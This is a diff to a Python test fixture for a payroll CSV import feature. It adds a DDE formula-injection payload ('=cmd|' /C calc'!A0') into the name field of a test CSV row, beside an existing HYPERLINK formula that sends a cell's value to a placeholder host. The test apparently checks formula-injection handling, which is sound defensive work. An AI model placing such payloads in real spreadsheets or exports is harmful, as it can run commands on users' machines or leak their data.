@@ -24,6 +24,7 @@ from tests.conftest import make_user
 
 D = Decimal
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"点击")'
+CMD = "=cmd|' /C calc'!A0"
 
 
 def _aware(day: date) -> datetime:
@@ -164,7 +165,7 @@ def build_world() -> SimpleNamespace:
     w.job = ImportJob.objects.create(
         kind="payroll", employer=w.e2, uploaded_by=w.worker, original_name="乙公司工资.csv", total_rows=1, error_rows=1
     )
-    rows = f"身份证号,姓名,月工资\r\n{w.p2.id_number},{FORMULA},=1+1\r\n".encode()
+    rows = f"身份证号,姓名,月工资\r\n{w.p2.id_number},{CMD},=1+1\r\n".encode()
     w.job.file.save("access-test.csv", ContentFile(rows), save=False)
     w.job.errors = [{"row": 2, "field": "月工资", "message": "不是数字"}]
     w.job.save()
